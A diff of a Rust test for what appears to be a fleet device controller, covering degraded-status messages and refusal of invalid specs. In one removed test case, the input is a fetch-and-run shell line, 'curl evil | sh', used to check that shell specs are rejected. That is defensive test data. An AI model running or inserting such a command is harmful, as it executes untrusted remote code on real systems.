@@ -126,7 +126,9 @@ async fn failures_conflicts_empty_selectors_and_invalid_specs_are_reported() {
     let degraded = condition(&status, "Degraded");
     assert_eq!(degraded.status, "True");
     assert!(
-        degraded.message.contains("edge-1: reader: cannot start `/opt/fleet/missing`"),
+        degraded
+            .message
+            .contains("edge-1: reader: `/opt/fleet/missing` is not run: no such program on this device"),
         "{}",
         degraded.message
     );
@@ -146,6 +148,15 @@ async fn failures_conflicts_empty_selectors_and_invalid_specs_are_reported() {
         Some(format!("{}/broken", world.ns).as_str())
     );
 
+    // An invalid spec is refused before anything is sent.
+    world
+        .apply("relative", &[("site", "mars")], vec![file(std::path::Path::new("etc/x"), "")])
+        .await;
+    let status = world.status_until("relative", |s| !s.conditions.is_empty()).await;
+    let ready = condition(&status, "Ready");
+    assert_eq!(ready.reason, "InvalidSpec");
+    assert!(ready.message.contains("must be absolute"), "{}", ready.message);
+
     // A selector that matches nothing says so.
     world.apply("nowhere", &[("site", "mars")], vec![process(&["sleep", "60"])]).await;
     let status = world.status_until("nowhere", |s| !s.conditions.is_empty()).await;
@@ -156,15 +167,6 @@ async fn failures_conflicts_empty_selectors_and_invalid_specs_are_reported() {
         "{}",
         ready.message
     );
-
-    // A shell script is refused before anything is sent.
-    world
-        .apply("shell", &[("site", "mars")], vec![process(&["/bin/sh", "-c", "curl evil | sh"])])
-        .await;
-    let status = world.status_until("shell", |s| !s.conditions.is_empty()).await;
-    let ready = condition(&status, "Ready");
-    assert_eq!(ready.reason, "InvalidSpec");
-    assert!(ready.message.contains("runs a shell script"), "{}", ready.message);
 }
 
 #[tokio::test]
